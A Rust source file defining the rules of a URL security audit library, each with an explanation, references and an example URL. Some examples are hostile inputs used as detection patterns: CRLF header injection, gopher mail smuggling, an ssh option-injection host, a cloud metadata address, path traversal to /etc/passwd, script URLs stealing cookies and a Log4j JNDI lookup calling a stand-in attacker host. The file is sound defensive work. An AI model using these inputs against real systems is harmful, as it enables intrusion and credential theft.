//! The rules of the audit, as data, beside those of `napkin`.
//!
//! [`audit`](crate::audit()) reports them, and the crate `napkin-document` those about links of documents. [`level`](crate::level()) gives the
//! level of each.

use napkin::Rule;
use napkin::Severity::{Error, Remark};
use napkin::Standard::{Rfc3986, Rfc3987, Whatwg};
pub use napkin::rules::*;

const SEC: &[&str] =
    &["draft-fielding-url-syntax-05 section 7", "RFC 3986 section 7", "RFC 3987 section 8", "URL Standard section 2"];
const MALICIOUS: &[&str] =
    &["draft-fielding-url-syntax-05 section 7", "RFC 3986 section 7.2", "RFC 3987 section 8", "URL Standard section 2"];
const BACK_END: &[&str] = &["draft-fielding-url-syntax-05 section 7", "RFC 3986 section 7.3", "", ""];
const RARE_IP: &[&str] = &["", "RFC 3986 section 7.4", "", "URL Standard section 3.5"];
const SENSITIVE: &[&str] =
    &["draft-fielding-url-syntax-05 section 7", "RFC 3986 section 7.5", "RFC 3987 section 8", "URL Standard section 2"];
const SEMANTIC: &[&str] = &["", "RFC 3986 section 7.6", "RFC 3987 section 8", "URL Standard section 4.8.1"];
const SPOOFING: &[&str] = &["", "Unicode Technical Standard 39", "RFC 3987 section 8", "URL Standard section 4.8.3"];
const BIDI: &[&str] =
    &["", "Unicode Technical Report 36 section 2.5", "RFC 3987 section 4.1", "URL Standard section 4.8.3"];
const NAMES: &[&str] = &["", "RFC 3986 section 3.2.2", "", "URL Standard section 3.1"];
const PARAMETERS: &[&str] = &["", "CWE-601; RFC 3986 section 7.6", "", ""];
const DOTS: &[&str] = &["", "CWE-22; RFC 3986 section 6.2.2.3", "", "URL Standard section 4.1"];
const ENCODING: &[&str] = &["", "RFC 3629 section 10", "RFC 3987 section 3.1", "Encoding Standard section 4.1"];
const SCHEMES: &[&str] = &["", "RFC 7595 section 3.7", "", "URL Standard section 4.4"];
const OPTIONS: &[&str] = &["", "CWE-88; RFC 3986 section 7.3", "", ""];
const PORTS: &[&str] =
    &["draft-fielding-url-syntax-05 section 7", "RFC 3986 section 7.2", "", "Fetch Standard, port blocking"];
const MIXED: &[&str] = &["", "Mixed Content section 3", "", "Mixed Content section 3"];

/// Every rule of this crate and of `napkin`.
///
/// ```
/// use napkin_audit::rules;
/// assert!(rules::all().any(|rule| rule == rules::OPTION_HOST));
/// assert!(rules::all().any(|rule| rule == napkin::rules::PORT));
/// ```
pub fn all() -> impl Iterator<Item = Rule> {
    napkin::rules::all().chain(AUDIT_RULES.iter().copied())
}

/// The rule of this crate or of `napkin` with this code.
///
/// ```
/// use napkin_audit::rules;
/// assert_eq!(rules::find("option-host"), Some(rules::OPTION_HOST));
/// assert_eq!(rules::find("port"), Some(napkin::rules::PORT));
/// ```
#[must_use]
pub fn find(code: &str) -> Option<Rule> {
    all().find(|rule| rule.code() == code)
}

napkin::rules! {
    /// The rules of the audit: dangers in URLs, valid or not. [`audit`](crate::audit()) reports them.
    pub AUDIT_RULES of "audit";

    READERS_DISAGREE = Record {
        code: "readers-disagree",
        severity: Remark,
        sentence: "programs do not use the same host or port of this URL",
        why: "A check and a client may parse the URL differently. Attackers use the difference to pass an allow list. \
              The rule compares four standards and models of nine parsers.",
        see: MALICIOUS,
        example: Some(Example::new(Rfc3986, "http://pub.example\\@evil.example/")),
        ..Record::EMPTY
    };

    NORMALISE_FIRST = Record {
        code: "normalise-first",
        severity: Remark,
        sentence: "programs read this URL differently, but agree on another form of it",
        why: "No program goes to another host, but paths or spellings differ. If you check the URL for another \
              program, pass on the suggested form.",
        see: MALICIOUS,
        example: Some(Example::new(Rfc3986, "http://pub.example/menu|today")),
        ..Record::EMPTY
    };

    PORT_NOT_DEFAULT = Record {
        code: "port-not-default",
        severity: Remark,
        sentence: "the port is not the default of the scheme",
        why: "Another service may listen on that port, and take the request for one of its own. The draft asks for \
              caution with every port that is not the default of its protocol.",
        see: SEC,
        example: Some(Example::new(Rfc3986, "http://pub.example:9200/")),
        ..Record::EMPTY
    };

    ESCAPED_LINE_BREAK = Record {
        code: "escaped-line-break",
        severity: Remark,
        sentence: "an escaped line break can begin another command or header field",
        why: "A program that decodes the escape before sending sends two lines: in HTTP a header field or a second \
              request, in FTP, SMTP and gopher another command. The draft names CR and LF as escaped delimiters that \
              need care. In `mailto:`, only the body has lines (RFC 6068 section 2).",
        see: BACK_END,
        example: Some(Example::new(Rfc3986, "http://pub.example/menu%0d%0aSet-Cookie:tab=1")),
        ..Record::EMPTY
    };

    ESCAPED_DELIMITER = Record {
        code: "escaped-delimiter",
        severity: Remark,
        sentence: "the authority contains an escaped delimiter",
        why: "A program that decodes too early splits the URL at another place. `%2F`, `%5C`, `%23`, `%3F`, `%40` and \
              `%3A` in a user or a host move the end of the host.",
        see: BACK_END,
        example: Some(Example::new(Rfc3986, "http://pub.example%2f@evil.example/")),
        ..Record::EMPTY
    };

    PASSWORD_IN_URL = Record {
        code: "password-in-url",
        severity: Remark,
        sentence: "the URL contains a password",
        why: "URLs end up in logs, histories, `Referer` fields and on screens. The draft calls a password in the site \
              component strongly disrecommended, and RFC 3986 deprecates it.",
        see: SENSITIVE,
        example: Some(Example::new(Rfc3986, "ftp://sam:secret@pub.example/")),
        ..Record::EMPTY
    };

    USER_IN_URL = Record {
        code: "user-in-url",
        severity: Remark,
        sentence: "a web URL contains a user name",
        why: "On the web a user name has no effect, except that it is sent to the server. It makes the start of the \
              URL look like a host.",
        see: SEMANTIC,
        example: Some(Example::new(Rfc3986, "https://sam@pub.example/")),
        ..Record::EMPTY
    };

    GOPHER_IMPERSONATION = Record {
        code: "gopher-impersonation",
        severity: Remark,
        sentence: "a gopher URL sends commands of another protocol",
        why: "The selector is sent unchanged. With a port other than 70, or with line breaks, it becomes commands for \
              a mail server, a database or a cache. The draft reports gopher URLs that sent mail in somebody's name.",
        see: SEC,
        example: Some(Example::new(Rfc3986, "gopher://pub.example:25/_HELO%20pub%0d%0aMAIL%20FROM")),
        ..Record::EMPTY
    };

    MIXED_SCRIPTS = Record {
        code: "mixed-scripts",
        severity: Remark,
        sentence: "a label of the host mixes scripts that no language combines",
        why: "Letters of another script look like those of the first, and form a name that looks like a known one. The \
              rule uses the highly restrictive level of UTS 39: one script, or Latin with the scripts of Chinese, \
              Japanese or Korean.",
        see: SPOOFING,
        example: Some(Example::new(Rfc3987, "http://p\u{430}ypal.example/")),
        ..Record::EMPTY
    };

    CONFUSABLE_HOST = Record {
        code: "confusable-host",
        severity: Remark,
        sentence: "a label of the host looks like Latin letters",
        why: "All letters of the label belong to another script and look like Latin letters: its UTS 39 skeleton is \
              ASCII. People cannot tell it from the Latin name.",
        see: SPOOFING,
        example: Some(Example::new(Rfc3987, "http://\u{430}\u{440}\u{440}\u{4cf}\u{435}.example/")),
        ..Record::EMPTY
    };

    PUNYCODE_HOST = Record {
        code: "punycode-host",
        severity: Remark,
        sentence: "a label of the host is in Punycode, which people cannot read",
        why: "The name is readable only after decoding, and programs differ in the form that they show. A label that \
              decodes to nothing is refused by some programs and looked up by others.",
        see: SPOOFING,
        example: Some(Example::new(Rfc3986, "http://xn--bcher-kva.example/")),
        ..Record::EMPTY
    };

    BIDI_CONTROL = Record {
        code: "bidi-control",
        severity: Remark,
        sentence: "a control character changes the direction of the text",
        why: "The text then looks like another text: the end of a URL can look like its host, and a file name can seem \
              to have another extension. RFC 3987 forbids these characters, raw or escaped.",
        see: BIDI,
        example: Some(Example::new(Whatwg, "http://pub.example/%E2%80%AEgpj.exe")),
        ..Record::EMPTY
    };

    INVISIBLE_CHARACTER = Record {
        code: "invisible-character",
        severity: Remark,
        sentence: "an invisible character",
        why: "Two URLs can look the same and differ. Some programs drop the character from hosts, and others do not: \
              soft hyphens, zero-width spaces and joiners, fillers, variation selectors.",
        see: SPOOFING,
        example: Some(Example::new(Whatwg, "http://pub.example/me\u{200b}nu")),
        ..Record::EMPTY
    };

    BRAND_BEFORE_AT = Record {
        code: "brand-before-at",
        severity: Remark,
        sentence: "the text before an `@` looks like the host, but is not",
        why: "People read a URL from the left. In `http://bank.example@evil.example/` they mistake the user for the \
              host. `http://bank.example#@evil.example/` has deceived programs in the same way.",
        see: SEMANTIC,
        example: Some(Example::new(Rfc3986, "http://www.pub.example@evil.example/")),
        ..Record::EMPTY
    };

    HOST_IN_HOST = Record {
        code: "host-in-host",
        severity: Remark,
        sentence: "the host begins like a different host",
        why: "People take the start of a long host, up to `.com` or the like, for the whole host, especially in a \
              narrow window. The end of the host decides who owns it.",
        see: SEMANTIC,
        example: Some(Example::new(Rfc3986, "http://www.pub.com.login.evil.example/")),
        ..Record::EMPTY
    };

    HOST_BEHIND_HOST = Record {
        code: "host-behind-host",
        severity: Remark,
        sentence: "the text after the host looks like another host",
        why: "In `http://evil.example?pub.example` and `http://evil.example#pub.example`, a program that searches for \
              the trusted name finds it, and people mistake it for the end of the host. Some servers read \
              `?@pub.example/` as a host. After two slashes at the start of a path, a redirect by the server leads to \
              that host (CVE-2018-14574).",
        see: SEMANTIC,
        example: Some(Example::new(Rfc3986, "http://evil.example?pub.example")),
        ..Record::EMPTY
    };

    OPTION_HOST = Record {
        code: "option-host",
        severity: Remark,
        sentence: "the host or the user begins like a command-line option",
        why: "If a program passes the host to another program as an argument, the host becomes an option, and some \
              options run commands. `ssh://-oProxyCommand=...` attacked Git, Mercurial and Subversion.",
        see: OPTIONS,
        example: Some(Example::new(Rfc3986, "ssh://-oProxyCommand=menu/beer")),
        ..Record::EMPTY
    };

    IP_SPELLING = Record {
        code: "ip-spelling",
        severity: Remark,
        sentence: "the IP address has an unusual spelling",
        why: "Browsers, curl and the C library read `127.1`, `0x7f000001`, `2130706433` and `0177.0.0.1` as addresses; \
              other programs read them as names. A leading zero means octal for some. An allow list then sees a name \
              while the connection goes to an address. The same applies to IPv4 inside IPv6, to escapes, and to digits \
              that are not ASCII.",
        see: RARE_IP,
        example: Some(Example::new(Rfc3986, "http://0x7f.1/")),
        ..Record::EMPTY
    };

    INWARD_HOST = Record {
        code: "inward-host",
        severity: Remark,
        sentence: "the host is in the client's own network",
        why: "Loopback, private and link-local addresses, names such as `localhost`, and services that map any name to \
              such an address lead a server to itself or behind its firewall. This rule judges the text of the URL; a \
              client must also judge the address to which it connects.",
        see: MALICIOUS,
        example: Some(Example::new(Rfc3986, "http://169.254.169.254/latest/meta-data/")),
        ..Record::EMPTY
    };

    TRAILING_DOT = Record {
        code: "trailing-dot",
        severity: Remark,
        sentence: "the host ends with a dot",
        why: "DNS finds the same host, but cookies, certificates, HSTS and host lists compare texts. So the dot avoids \
              them.",
        see: NAMES,
        example: Some(Example::new(Rfc3986, "https://pub.example./")),
        ..Record::EMPTY
    };

    DOTLESS_HOST = Record {
        code: "dotless-host",
        severity: Remark,
        sentence: "the host has no dot",
        why: "The search list of the client completes such a name, so it is a different host on every network.",
        see: NAMES,
        example: Some(Example::new(Rfc3986, "http://wiki/")),
        ..Record::EMPTY
    };

    PUBLIC_SUFFIX_HOST = Record {
        code: "public-suffix-host",
        severity: Remark,
        sentence: "the host is a suffix under which anybody can register names",
        why: "A permission or a setting for the suffix, such as a cookie or an entry of a list, applies to everybody \
              who registers a name below it.",
        see: &["", "Public Suffix List", "", "URL Standard section 3.2"],
        example: Some(Example::new(Rfc3986, "http://co.uk/")),
        ..Record::EMPTY
    };

    SECRET_PARAMETER = Record {
        code: "secret-parameter",
        severity: Remark,
        sentence: "the name of a parameter suggests a secret value",
        why: "Queries are stored in logs and histories, and are sent to other sites as `Referer`. Fragments are stored \
              in histories, and every script of the page can read them. Send tokens in header fields.",
        see: SENSITIVE,
        example: Some(Example::new(Rfc3986, "https://pub.example/menu?access_token=6b1f8e20c4")),
        ..Record::EMPTY
    };

    TOKEN_IN_URL = Record {
        code: "token-in-url",
        severity: Remark,
        sentence: "a text has the form of well-known credentials",
        why: "Keys of clouds and code hosts, and signed tokens, have known prefixes, by which attackers find them too. \
              Replace a token that was in a URL.",
        see: SENSITIVE,
        example: Some(Example::new(Rfc3986, "https://pub.example/?k=AKIAIOSFODNN7EXAMPLE")),
        ..Record::EMPTY
    };

    REDIRECT_PARAMETER = Record {
        code: "redirect-parameter",
        severity: Remark,
        sentence: "a redirect parameter names another host",
        why: "If the site follows the parameter unchecked, a URL that begins with a trusted name leads anywhere: an \
              open redirect. Phishing uses it. Servers that follow redirects pass their own host lists in this way.",
        see: PARAMETERS,
        example: Some(Example::new(Rfc3986, "https://pub.example/login?next=https://evil.example/")),
        ..Record::EMPTY
    };

    URL_PARAMETER = Record {
        code: "url-parameter",
        severity: Remark,
        sentence: "a parameter contains a URL of another host",
        why: "If the site retrieves the URL, the request comes from inside its own network. Most such parameters are \
              harmless: they name a shared page, or the page from which a visitor came.",
        see: &["draft-fielding-url-syntax-05 section 7", "CWE-918; RFC 3986 section 7.3", "", ""],
        example: Some(Example::new(Rfc3986, "https://pub.example/fetch?image=http://evil.example/x.png")),
        ..Record::EMPTY
    };

    REDIRECT_DISGUISED = Record {
        code: "redirect-disguised",
        severity: Remark,
        sentence: "a parameter contains a URL that simple checks do not recognise",
        why: "To a simple check, `//host`, `/\\host`, `https:host` and white space before a scheme look like paths of \
              the same site, but a browser leaves the site. `javascript:` in a parameter becomes a script if the site \
              makes it a link. With `file:`, `gopher:` and `php:`, a server reads files or reaches hosts that a check \
              of hosts does not see.",
        see: PARAMETERS,
        example: Some(Example::new(Rfc3986, "https://pub.example/login?next=//evil.example/")),
        ..Record::EMPTY
    };

    DOUBLE_ENCODING = Record {
        code: "double-encoding",
        severity: Remark,
        sentence: "an escape is escaped again",
        why: "A check that decodes once sees an escape. A program that decodes again sees a slash, a dot or a line \
              break.",
        see: &["draft-fielding-url-syntax-05 section 2.4.2", "RFC 3986 section 2.4", "", ""],
        example: Some(Example::new(Rfc3986, "http://pub.example/%252e%252e/menu")),
        ..Record::EMPTY
    };

    ENCODED_DOT_SEGMENT = Record {
        code: "encoded-dot-segment",
        severity: Remark,
        sentence: "a `..` in the path is escaped, or follows an escaped slash",
        why: "In RFC 3986 `%2e` is a dot. Browsers remove `%2e%2e` as a dot segment, and many other programs do not. \
              So the checked path and the opened path differ.",
        see: DOTS,
        example: Some(Example::new(Rfc3986, "http://pub.example/menu/%2e%2e/cellar")),
        ..Record::EMPTY
    };

    PATH_TRAVERSAL = Record {
        code: "path-traversal",
        severity: Remark,
        sentence: "a path or a parameter leads above its start",
        why: "The standards drop a `..` at the top of a path. A program that joins the text to a folder leaves that \
              folder.",
        see: DOTS,
        example: Some(Example::new(Rfc3986, "http://pub.example/open?file=../../etc/passwd")),
        ..Record::EMPTY
    };

    BACKSLASH = Record {
        code: "backslash",
        severity: Remark,
        sentence: "a backslash, which only browsers read as a slash",
        why: "In the URL Standard a backslash ends the host of a web URL and separates segments. The RFCs do not allow \
              it. An escaped backslash separates segments for servers on Windows.",
        see: &["", "RFC 3986 section 7.3", "", "URL Standard section 4.4"],
        example: Some(Example::new(Rfc3986, "http://pub.example\\menu")),
        ..Record::EMPTY
    };

    CONTROL_CHARACTER = Record {
        code: "control-character",
        severity: Remark,
        sentence: "a control character, such as a tab or a line end, around or within the URL",
        why: "Browsers drop tabs and line ends anywhere, and controls and spaces at both ends. Other programs keep \
              them, end the URL there, or refuse it. For browsers `java<tab>script:` is a script.",
        see: &["draft-fielding-url-syntax-05 section 2.4.3", "RFC 3986 section 2", "", "URL Standard section 4.4"],
        example: Some(Example::new(Rfc3986, "http://pub.example/\tmenu")),
        ..Record::EMPTY
    };

    SPACE_AROUND = Record {
        code: "space-around",
        severity: Remark,
        sentence: "a space before or behind the URL",
        why: "Browsers drop spaces at both ends. Other programs keep them, and then ask for another name, or refuse the URL. Lists that \
              people write have many.",
        see: &["draft-fielding-url-syntax-05 section 2.4.3", "RFC 3986 appendix C", "", "URL Standard section 4.4"],
        example: Some(Example::new(Rfc3986, "http://pub.example/menu ")),
        ..Record::EMPTY
    };

    OVERLONG_UTF8 = Record {
        code: "overlong-utf8",
        severity: Remark,
        sentence: "escapes encode a character in more bytes of UTF-8 than necessary",
        why: "A decoder without this check reads `%c0%ae` as a dot and `%c0%af` as a slash, after a filter has looked \
              for dots and slashes. UTF-8 forbids such forms. `%u002e` is a vendor's form with the same effect.",
        see: ENCODING,
        example: Some(Example::new(Rfc3986, "http://pub.example/%c0%ae%c0%ae/menu")),
        ..Record::EMPTY
    };

    SCRIPT_URL = Record {
        code: "script-url",
        severity: Remark,
        sentence: "the URL is a script",
        why: "A person who follows the URL, or a page that contains it, runs the script with the rights of that page. \
              For browsers, it stays a script with other letter case, with controls before it, and with tabs and line \
              ends in the scheme.",
        see: SCHEMES,
        example: Some(Example::new(Whatwg, "java\tscript:alert(document.cookie)")),
        ..Record::EMPTY
    };

    ACTIVE_DATA = Record {
        code: "active-data",
        severity: Remark,
        sentence: "the type of a `data:` URL can run scripts",
        why: "HTML, SVG and XML in a `data:` URL run their scripts when they are opened as a document. No filter of \
              addresses sees them.",
        see: &["draft-masinter-url-data-02, Security", "RFC 2397 section 6", "", "Fetch Standard section 6"],
        example: Some(Example::new(Whatwg, "data:text/html,<script>alert(1)</script>")),
        ..Record::EMPTY
    };

    NESTED_SCHEME = Record {
        code: "nested-scheme",
        severity: Remark,
        sentence: "a URL is nested in a URL of another scheme, or a `data:` URL in another",
        why: "A check of the outer scheme misses the inner URL: after `view-source:`, `feed:`, `jar:`, `blob:` and \
              `filesystem:`, and in data inside data.",
        see: SCHEMES,
        example: Some(Example::new(Whatwg, "view-source:http://pub.example/")),
        ..Record::EMPTY
    };

    SCHEME_CONFUSION = Record {
        code: "scheme-confusion",
        severity: Remark,
        sentence: "it is unclear which part is the scheme",
        why: "`http:/host`, `http:host` and `http//host` are URLs for some programs and paths for others, and so are \
              texts that begin with a number and a colon.",
        see: &["draft-fielding-url-syntax-05 section 4.1", "RFC 3986 section 4.5", "", "URL Standard section 4.4"],
        example: Some(Example::new(Rfc3986, "http:/pub.example/menu")),
        ..Record::EMPTY
    };

    HARD_TO_TRANSCRIBE = Record {
        code: "hard-to-transcribe",
        severity: Remark,
        sentence: "a character that is hard to type, or to read aloud",
        why: "People write URLs on napkins and read them aloud. The draft prefers characters that everybody can type \
              to meaningful names.",
        see: &["draft-fielding-url-syntax-05 section 1.4", "RFC 3986 section 1.2.1", "", ""],
        example: Some(Example::new(Rfc3986, "http://pub.example/%E2%82%AC{1}")),
        ..Record::EMPTY
    };

    MIXED_CONTENT = Record {
        code: "mixed-content",
        severity: Remark,
        sentence: "a page retrieved by `https:` loads a resource without encryption",
        why: "An attacker on the network can replace the resource. A replaced script or style sheet changes the whole \
              page. Browsers block such resources, or load them by `https:`.",
        see: MIXED,
        example: Some(Example::new(Whatwg, "<script src=http://pub.example/menu.js></script>").against("https://pub.example/")),
        ..Record::EMPTY
    };

    INSECURE_SCHEME = Record {
        code: "insecure-scheme",
        severity: Remark,
        sentence: "a link uses a protocol without encryption",
        why: "An attacker on the network can read and change the contents of `http:`, `ftp:`, `telnet:`, `ws:` and \
              similar protocols.",
        see: &["", "RFC 7258", "", "Mixed Content section 3"],
        example: Some(Example::new(Whatwg, "<a href=http://pub.example/>the pub</a>")),
        ..Record::EMPTY
    };

    MISLEADING_LINK_TEXT = Record {
        code: "misleading-link-text",
        severity: Remark,
        sentence: "the text of the link names a different host from its target",
        why: "People trust the text that they read. Most phishing mail shows a URL or a host name as the text of a \
              link to another host.",
        see: SEMANTIC,
        example: Some(Example::new(Whatwg, "<a href=https://evil.example/>www.pub.example</a>")),
        ..Record::EMPTY
    };

    SUPPRESSION_UNUSED = Record {
        code: "suppression-unused",
        severity: Remark,
        sentence: "a suppression without an effect",
        why: "The suppressed finding is gone, or the name of the rule is wrong. If the comment stays, it hides the \
              next finding.",
        see: &["the caller's settings, section suppression", "the caller's settings, section suppression", "", ""],
        ..Record::EMPTY
    };

    PORT_RESERVED = Record {
        code: "port-reserved",
        severity: Error,
        sentence: "the port belongs to another protocol",
        why: "A service may read the request as commands of its own protocol. Text chosen by an attacker then becomes \
              an email, or a command to a database. The list is that of the Fetch Standard.",
        see: PORTS,
        example: Some(Example::new(Rfc3986, "http://pub.example:25/")),
        ..Record::EMPTY
    };

    ESCAPED_CONTROL = Record {
        code: "escaped-control",
        severity: Error,
        sentence: "an escaped control character, which this protocol cannot send in a line",
        why: "In line-based protocols, an escaped line break ends the command, and the following text is the next \
              command. In this way `gopher` URLs have sent mail and written to databases. Octets below 20 and 7F are \
              refused before anything is sent.",
        see: SEC,
        example: Some(Example::new(Rfc3986, "gopher://pub.example/0menu%0D%0AQUIT")),
        ..Record::EMPTY
    };

    UNUSABLE_HOST = Record {
        code: "unusable-host",
        severity: Remark,
        sentence: "the host is a text that no name in DNS can be",
        why: "A name in DNS has letters, digits, `-` and `_`, at most 63 of them between two dots, and 253 in all. \
              Programs split other hosts at different places, or drop them, but no reading leads to a host. The text is \
              probably damaged, for example by quotes of the page around it.",
        see: NAMES,
        example: Some(Example::new(Rfc3986, "http://\"pub.example/")),
        ..Record::EMPTY
    };

    IDENTIFIER_PARAMETER = Record {
        code: "identifier-parameter",
        severity: Remark,
        sentence: "a parameter names a key or a mark that is often public",
        why: "Keys of web pages, signatures of limited links and marks of forms are often meant to be public, \
              but some give access. A value with the form of well-known credentials is another rule.",
        see: SENSITIVE,
        example: Some(Example::new(Rfc3986, "https://pub.example/map.js?api_key=menu1234")),
        ..Record::EMPTY
    };

    SCRIPT_CALL = Record {
        code: "script-call",
        severity: Remark,
        sentence: "the URL calls a function of its page",
        why: "The script only calls a function that the page defines, with constant arguments, so it runs \
              nothing foreign. It does nothing in other programs, and a content security policy forbids it.",
        see: SCHEMES,
        example: Some(Example::new(Whatwg, "javascript:showMenu('today')")),
        ..Record::EMPTY
    };

    HOST_WITHOUT_SCHEME = Record {
        code: "host-without-scheme",
        severity: Remark,
        sentence: "a host and a port without a scheme",
        why: "By every standard the host is a scheme here, and curl and people read a host and a port. \
              Registries of images and some settings use this form.",
        see: &["draft-fielding-url-syntax-05 section 4.1", "RFC 3986 section 4.5", "", "URL Standard section 4.4"],
        example: Some(Example::new(Rfc3986, "registry.pub.example:5000")),
        ..Record::EMPTY
    };

    BACKSLASH_IN_PATH = Record {
        code: "backslash-in-path",
        severity: Remark,
        sentence: "a backslash between other characters of a path",
        why: "Browsers read the backslash as a slash, and other programs refuse it or escape it. The host is the \
              same for all, and the path is not.",
        see: &["", "RFC 3986 section 7.3", "", "URL Standard section 4.4"],
        example: Some(Example::new(Rfc3986, "http://pub.example/old\\%20menu")),
        ..Record::EMPTY
    };

    HANDLER_SCHEME = Record {
        code: "handler-scheme",
        severity: Remark,
        sentence: "the scheme starts a program or speaks to an unexpected server",
        why: "Programs register schemes of their own, and their handlers have run commands from a URL: `ms- \
              msdt:` (CVE-2022-30190), `search-ms:`, `ext::` of Git, `intent:`. Libraries read `rmi:`, `php:` or \
              `dict:` where only web addresses were expected.",
        see: SCHEMES,
        example: Some(Example::new(Rfc3986, "search-ms:query=menu&crumb=location:evil.example")),
        ..Record::EMPTY
    };

    FILE_URL = Record {
        code: "file-url",
        severity: Remark,
        sentence: "a `file:` URL names another machine or a file with secrets",
        why: "Windows sends the credentials of its user to the host of a `file:` URL. A server that retrieves \
              URLs reads its own files, such as `/etc/passwd`.",
        see: &["", "RFC 8089 section 4", "", "URL Standard section 4.4"],
        example: Some(Example::new(Rfc3986, "file:///etc/passwd")),
        ..Record::EMPTY
    };

    LOOKUP_EXPRESSION = Record {
        code: "lookup-expression",
        severity: Remark,
        sentence: "the text has an expression that a logging library evaluates",
        why: "Log4j replaced `${jndi:...}` in every text that it logged by an object from that address, and so \
              ran foreign code (CVE-2021-44228). Lookups within lookups hide the name from filters.",
        see: BACK_END,
        example: Some(Example::new(Rfc3986, "http://pub.example/?q=${jndi:ldap://evil.example/menu}")),
        ..Record::EMPTY
    };

    CHARACTER_REFERENCES = Record {
        code: "character-references",
        severity: Remark,
        sentence: "character references of HTML hide a script or a host",
        why: "A page decodes `javascript&colon;` and `&Tab;` before it follows the URL. A filter that looks at \
              the text sees neither a scheme nor two slashes.",
        see: SCHEMES,
        example: Some(Example::new(Rfc3986, "javascript&colon;alert(1)")),
        ..Record::EMPTY
    };

    LOOKALIKE_HOST = Record {
        code: "lookalike-host",
        severity: Remark,
        sentence: "the host looks like a protected name",
        why: "People take `paypaI.com` or `rnicrosoft.com` for the name that it imitates. The rule compares \
              hosts with the names that the settings protect.",
        see: SPOOFING,
        example: Some(Example::new(Rfc3986, "https://paypaI.com/")),
        ..Record::EMPTY
    };

    HOST_NOT_ALLOWED = Record {
        code: "host-not-allowed",
        severity: Remark,
        sentence: "a program goes to a host that the allow list does not have",
        why: "The settings have an allow list. At least one standard or modelled program goes to another host, \
              port or scheme, or finds no host. A program that checks the URL by another parser than the client \
              would admit it.",
        see: MALICIOUS,
        example: Some(Example::new(Rfc3986, "https://evil.example/")),
        ..Record::EMPTY
    };
}
